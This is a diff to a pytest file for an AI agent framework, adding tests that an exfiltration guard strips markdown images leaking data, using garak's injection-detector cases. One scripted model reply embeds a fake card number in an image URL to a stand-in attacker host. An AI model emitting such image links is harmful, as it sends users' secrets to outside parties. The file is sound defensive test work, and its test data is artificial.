@@ -3,12 +3,14 @@
 from __future__ import annotations
 
 import json
+from pathlib import Path
 
 import pytest
 
 from keel import Agent, Escalation, ReviewQueue, RunStatus, tool
 from keel.errors import ConfigError
 from keel.guardrails import ExfiltrationGuard, GuardContext, PIIGuard
+from keel.guardrails._urls import find_targets, host_of
 from keel.testing import ScriptedModel, call, reply
 
 SECRET = "4111111111111111"
@@ -221,3 +223,19 @@ def test_explicit_guards_replace_the_default() -> None:
     model = ScriptedModel([reply(f"![x](https://evil.example/{SECRET})")])
     result = Agent("desk", model, guards=[PIIGuard()], store="memory://").run_sync("hi")
     assert "evil.example" in str(result.output)
+
+
+GARAK = json.loads((Path(__file__).parent / "data" / "exfiltration_garak.json").read_text(encoding="utf-8"))
+
+
+@pytest.mark.parametrize("split", ["dev", "held_out"])
+def test_every_exfiltration_image_of_garaks_outputs_is_stripped_and_none_once_its_host_is_known(split: str) -> None:
+    # Public data (NVIDIA/garak's web-injection detector tests, Apache-2.0; provenance in the file). Scores per group:
+    # bench/exfiltration_guard.py. Images without data that garak calls benign are stripped too: the host is unknown.
+    cases = [c for c in GARAK["cases"] if c["split"] == split]
+    for case in (c for c in cases if c["garak_label"] == "unsafe"):
+        verdict = GUARD.check(case["text"], GuardContext())
+        assert verdict.action == "redact" and verdict.text is not None and "removed:" in verdict.text, case["text"]
+    for case in cases:
+        hosts = [h for t in find_targets(case["text"]) if (h := host_of(t.url))]
+        assert ExfiltrationGuard(allow_hosts=hosts).check(case["text"], GuardContext()).passed
